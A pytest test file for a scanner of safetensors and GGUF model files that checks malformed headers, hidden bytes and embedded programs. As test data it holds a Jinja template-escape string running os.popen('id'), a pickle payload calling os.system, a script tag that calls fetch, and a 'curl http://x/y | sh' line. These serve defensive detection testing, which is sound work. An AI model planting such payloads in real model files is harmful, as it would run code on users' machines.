"""safetensors and GGUF: held to their own readers, and written by their own writers."""

from __future__ import annotations

import base64
import json
import os
import pickle
import struct
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import gguf
import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from safetensors import SafetensorError
from safetensors.numpy import load, save

from keepstone.core.finding import Outcome
from keepstone.scan.report import FileReport
from keepstone.scan.scanner import judge, scan_file
from keepstone.scan.view import open_view

Judge = Callable[[bytes], FileReport]
ESCAPE = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"


class Payload:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("true",)


@pytest.fixture
def scan(tmp_path: Path) -> Judge:
    def judge_bytes(data: bytes) -> FileReport:
        (tmp_path / "file").write_bytes(data)
        return scan_file(tmp_path / "file")

    return judge_bytes


def rules(report: FileReport) -> set[str]:
    return {item.rule for item in report.findings}


# safetensors ------------------------------------------------------------------------------------

X: dict[str, Any] = {"x": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}


def tensors(header: object, body: bytes = b"abcd", length: int | None = None) -> bytes:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text) if length is None else length) + text + body


def one(**changes: object) -> bytes:
    return tensors({"x": {**X["x"], **changes}})


def said(text: str) -> bytes:
    return tensors({"__metadata__": {"about": text}, **X})


BAD = {
    "longer than the file": (tensors(X, length=1 << 62), "safetensors.header_bomb"),
    "longer than it needs": (tensors(X, length=90_000_000), "safetensors.header_bomb"),
    "bytes after the last": (tensors(X, b"abcdzz"), "safetensors.hidden"),
    "a hole": (one(data_offsets=[4, 8]) + b"abcd", "safetensors.hidden"),
    "an overlap": (tensors({**X, "y": X["x"]}), "safetensors.hidden"),
    "outside": (one(shape=[9], data_offsets=[0, 36]), "safetensors.malformed"),
    "other size": (one(shape=[2]), "safetensors.malformed"),
    "overflowing shape": (one(shape=[1 << 62, 1 << 62]), "safetensors.malformed"),
    "endless shape": (one(shape=[1] * 1000), "safetensors.malformed"),
    "negative": (one(shape=[-1]), "safetensors.malformed"),
    "a float": (one(shape=[1.0]), "safetensors.malformed"),
    "a truth value": (one(shape=[True]), "safetensors.malformed"),
    "backwards": (one(data_offsets=[4, 0]), "safetensors.malformed"),
    "unknown type": (one(dtype="F24"), "safetensors.unknown"),
    "impossible type": (one(dtype="O"), "safetensors.malformed"),
    "an empty header": (tensors(b"{}", b"", 0), "safetensors.malformed"),
    "a length that wraps": (tensors(b"{}", b"", (1 << 64) - 1), "safetensors.header_bomb"),
    "no object": (tensors(b"[1, 2]"), "safetensors.malformed"),
    "Python": (tensors(b"{'x': {}}"), "safetensors.malformed"),
    "text behind": (tensors(b'{"x": {}} more'), "safetensors.malformed"),
    "another field": (one(code="x"), "safetensors.malformed"),
    "blank before": (tensors(b" " + json.dumps(X).encode()), "safetensors.malformed"),
    "a list": (tensors([X]), "safetensors.malformed"),
    "deep": (tensors(b'{"x":' + b"[" * 99_999 + b"]" * 99_999 + b"}"), "safetensors.malformed"),
    "no text": (tensors({"__metadata__": {"a": 5}, **X}), "safetensors.malformed"),
    "not UTF-8": (tensors(b'{"\xff":1}'), "safetensors.malformed"),
    "half a character": (tensors(b'{"\\ud800":1}'), "safetensors.malformed"),
    "NaN": (tensors(b'{"x":NaN}'), "safetensors.malformed"),
    "twice": (
        tensors(b'{"x":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"\\u0078":{}}'),
        "safetensors.ambiguous",
    ),
    "a call": (said("__import__('os').system('id')"), "metadata.program"),
    "a script": (said("<script>fetch('x')</script>"), "metadata.program"),
    "a template": (said(ESCAPE), "metadata.program"),
    "a pickle": (said(base64.b64encode(pickle.dumps(Payload())).decode()), "metadata.program"),
    "a text pickle": (said(pickle.dumps(Payload(), 0).decode()), "metadata.program"),
}


@pytest.mark.parametrize("name", BAD)
def test_each_rule_of_safetensors_bites(scan: Judge, name: str) -> None:
    data, rule = BAD[name]
    report = scan(data)
    assert report.format == "safetensors"
    assert report.outcome is not Outcome.CLEAN
    assert rules(report) == {rule}


def test_what_the_writer_writes_is_clean(scan: Judge) -> None:
    arrays = {
        f"model.layers.{i}.weight": np.zeros((i, 4), dtype)
        for i, dtype in enumerate((np.float32, np.float16, np.int8, np.uint64, np.bool_))
    }
    told = {"format": "pt", "about": "Use it with model.eval(), not {braces}. See os.path."}
    for metadata in (None, {"format": "pt"}, told):
        assert scan(save(arrays, metadata)).findings == ()
    assert scan(save({})).findings == ()
    # A header may be padded with blanks.
    assert scan(tensors(json.dumps(X).encode() + b"   ")).outcome is Outcome.CLEAN


def test_a_length_that_spells_another_mark_is_no_other_format(scan: Judge) -> None:
    """0x280 reads as a pickle, 0x178 as zlib, 0x5d as lzma: honest headers are that long."""
    for length in (0x5D, 0x178, 0x280, 0x478):
        text = json.dumps(X).encode()
        report = scan(tensors(text + b" " * (length - len(text))))
        assert (report.format, report.outcome) == ("safetensors", Outcome.CLEAN), length


def test_large_files_are_parsed_in_no_time(tmp_path: Path) -> None:
    """The budget is .10 s for 500 MB; the tensors are never read."""
    size, count = 4 << 20, 125
    header = {
        f"w{i}": {"dtype": "F32", "shape": [size // 4], "data_offsets": [size * i, size * (i + 1)]}
        for i in range(count)
    }
    text = json.dumps(header).encode()
    text += b" " * (-len(text) % 256)
    with (tmp_path / "large").open("wb") as file:
        file.write(struct.pack("<Q", len(text)) + text)
        file.truncate(8 + len(text) + size * count)
    with open_view(tmp_path / "large", "large", judge) as view:
        begin = time.perf_counter()
        assert list(judge(view)) == []
        assert time.perf_counter() - begin < 0.1


_SMALL = save({"a": np.ones((2, 3), np.float32), "b": np.zeros(4, np.int16)}, {"k": "v"})


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(st.integers(0, len(_SMALL) - 1), st.integers(0, 255)), max_size=4))
def test_what_the_reader_refuses_is_never_clean(changes: list[tuple[int, int]]) -> None:
    data = bytearray(_SMALL)
    for at, value in changes:
        data[at] = value
    outcome = _judged(bytes(data))
    try:
        load(bytes(data))
    except (SafetensorError, KeyError, ValueError, TypeError):
        assert outcome is not Outcome.CLEAN


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=200), st.integers(0, 200))
def test_any_bytes_behind_a_length_get_a_verdict(body: bytes, length: int) -> None:
    _judged(struct.pack("<Q", length) + b"{" + body)


def _judged(data: bytes) -> Outcome:
    from keepstone.core.finding import worst
    from keepstone.scan.allowance import Allowance
    from keepstone.scan.rules import RULES
    from keepstone.scan.view import View

    found = list(judge(View("x", memoryview(data), Allowance(), judge)))
    assert not any("scanner failed" in item.message for item in found)
    return worst(RULES[item.rule].outcome for item in found) if found else Outcome.CLEAN


# GGUF -------------------------------------------------------------------------------------------


def written(tmp_path: Path, order: gguf.GGUFEndian = gguf.GGUFEndian.LITTLE, **keys: str) -> bytes:
    writer = gguf.GGUFWriter(tmp_path / "written", "llama", endianess=order)
    writer.add_block_count(2)
    writer.add_description("A model. Use model.eval() with care; {{braces}} are fine.")
    writer.add_chat_template("{% for m in messages %}{{ m.content|trim }}{% endfor %}")
    writer.add_token_list([f"t{i}" for i in range(100)])
    writer.add_token_types([1] * 100)
    for key, value in keys.items():
        writer.add_string(key.replace("__", "."), value)
    writer.add_tensor("a", np.ones((4, 32), np.float32))
    writer.add_tensor("b", np.ones(7, np.float16))
    quantized = np.zeros((2, 34), np.uint8)
    writer.add_tensor("c", quantized, raw_dtype=gguf.GGMLQuantizationType.Q8_0)
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    return (tmp_path / "written").read_bytes()


def test_what_the_gguf_writer_writes_is_clean(scan: Judge, tmp_path: Path) -> None:
    for order in gguf.GGUFEndian:
        report = scan(written(tmp_path, order))
        assert (report.format, report.findings) == ("gguf", ())


@pytest.mark.parametrize(
    "key", ["tokenizer__chat_template__tool_use", "general__prompt_template", "some__template"]
)
def test_an_escape_in_any_template_is_flagged(scan: Judge, tmp_path: Path, key: str) -> None:
    report = scan(written(tmp_path, **{key: ESCAPE}))
    assert report.outcome is Outcome.FLAGGED
    assert rules(report) == {"template.escape"}


def test_a_program_in_any_text_is_flagged(scan: Judge, tmp_path: Path) -> None:
    for text in (ESCAPE, "eval('1')", "curl http://x/y | sh"):
        assert rules(scan(written(tmp_path, general__license=text))) == {"metadata.program"}


def head(*parts: bytes, version: int = 3, tensors: int = 0, keys: int = 0) -> bytes:
    return b"GGUF" + struct.pack("<IQQ", version, tensors, keys) + b"".join(parts)


def text(value: str) -> bytes:
    return struct.pack("<Q", len(value.encode())) + value.encode()


def key(name: str, kind: int, value: bytes) -> bytes:
    return text(name) + struct.pack("<I", kind) + value


def info(name: str, shape: tuple[int, ...], kind: int = 0, offset: int = 0) -> bytes:
    counts = struct.pack(f"<I{len(shape)}Q", len(shape), *shape)
    return text(name) + counts + struct.pack("<IQ", kind, offset)


def with_tensors(*infos: bytes, body: int = 64) -> bytes:
    data = head(*infos, tensors=len(infos))
    return data + bytes(-len(data) % 32) + bytes(body)


SAME = key("a", 4, bytes(4))
BAD_GGUF = {
    "keys that do not fit": (head(keys=1 << 60), "gguf.malformed"),
    "tensors that do not fit": (head(tensors=1 << 60), "gguf.malformed"),
    "version 9": (head(version=9), "gguf.unknown"),
    "version 0": (head(version=0), "gguf.malformed"),
    "version 77": (head(version=77), "gguf.malformed"),
    "an impossible tensor": (with_tensors(info("a", (16,), 4242)), "gguf.malformed"),
    "a text past the end": (
        head(key("a", 8, struct.pack("<Q", 1 << 40)), keys=1),
        "gguf.malformed",
    ),
    "a key past the end": (head(struct.pack("<Q", 1 << 40) + bytes(9), keys=1), "gguf.malformed"),
    "an array past the end": (
        head(key("a", 9, struct.pack("<IQ", 4, 1 << 40)), keys=1),
        "gguf.malformed",
    ),
    "texts past the end": (
        head(key("a", 9, struct.pack("<IQQ", 8, 1, 1 << 40)), keys=1),
        "gguf.malformed",
    ),
    "an unknown type": (head(key("a", 99, bytes(8)), keys=1), "gguf.malformed"),
    "an array in an array": (
        head(key("a", 9, struct.pack("<IQ", 9, 0)), keys=1),
        "gguf.ambiguous",
    ),
    "a key twice": (head(SAME, SAME, keys=2), "gguf.ambiguous"),
    "a truth value of 7": (head(key("a", 7, b"\x07") + bytes(3), keys=1), "gguf.malformed"),
    "an alignment of 3": (
        head(key("general.alignment", 4, struct.pack("<I", 3)), keys=1),
        "gguf.malformed",
    ),
    "bytes after the head": (head(bytes(40)), "gguf.hidden"),
    "a tensor twice": (with_tensors(info("a", (4,)), info("a", (4,), 0, 32)), "gguf.ambiguous"),
    "five dimensions": (with_tensors(info("a", (1, 1, 1, 1, 1))), "gguf.malformed"),
    "an overflow": (with_tensors(info("a", (1 << 40, 1 << 40))), "gguf.malformed"),
    "outside": (with_tensors(info("a", (64,))), "gguf.malformed"),
    "in another": (with_tensors(info("a", (16,)), info("b", (4,), 0, 32)), "gguf.malformed"),
    "not aligned": (with_tensors(info("a", (4,), 0, 4)), "gguf.malformed"),
    "a hole": (with_tensors(info("a", (4,), 0, 32)), "gguf.hidden"),
    "a rest": (with_tensors(info("a", (4,))), "gguf.hidden"),
    "half a block": (with_tensors(info("a", (16,), 8)), "gguf.malformed"),
    "an unknown tensor": (with_tensors(info("a", (16,), 77)), "gguf.unknown"),
    "a long name": (with_tensors(info("a" * 200, (16,))), "gguf.malformed"),
    "no UTF-8": (head(struct.pack("<Q", 1) + b"\xff" + bytes(12), keys=1), "gguf.malformed"),
}


@pytest.mark.parametrize("name", BAD_GGUF)
def test_each_rule_of_gguf_bites(scan: Judge, name: str) -> None:
    data, rule = BAD_GGUF[name]
    report = scan(data)
    assert report.format == "gguf"
    assert rules(report) == {rule}


def test_the_first_version_has_short_counts(scan: Judge) -> None:
    data = b"GGUF" + struct.pack("<III", 1, 0, 1)
    data += struct.pack("<I", 1) + b"a" + struct.pack("<II", 8, 2) + b"ok"
    assert scan(data + bytes(-len(data) % 32)).outcome is Outcome.CLEAN


@settings(max_examples=200, deadline=None)
@given(st.data())
def test_a_changed_gguf_gets_a_verdict_and_keeps_its_payload(data: st.DataObject) -> None:
    whole = bytearray(
        head(
            key("tokenizer.chat_template", 8, text(ESCAPE)),
            SAME,
            info("a", (4,)),
            tensors=1,
            keys=2,
        )
    )
    begin = bytes(whole).index(ESCAPE.encode())
    places = st.integers(4, len(whole) - 1).filter(
        lambda at: not begin - 40 <= at < begin + len(ESCAPE)
    )
    for at in data.draw(st.lists(places, max_size=3)):
        whole[at] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(begin + len(ESCAPE), len(whole)))
    assert _judged(bytes(whole[:cut])) is not Outcome.CLEAN


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=300))
def test_any_bytes_behind_the_mark_get_a_verdict(body: bytes) -> None:
    _judged(b"GGUF" + body)
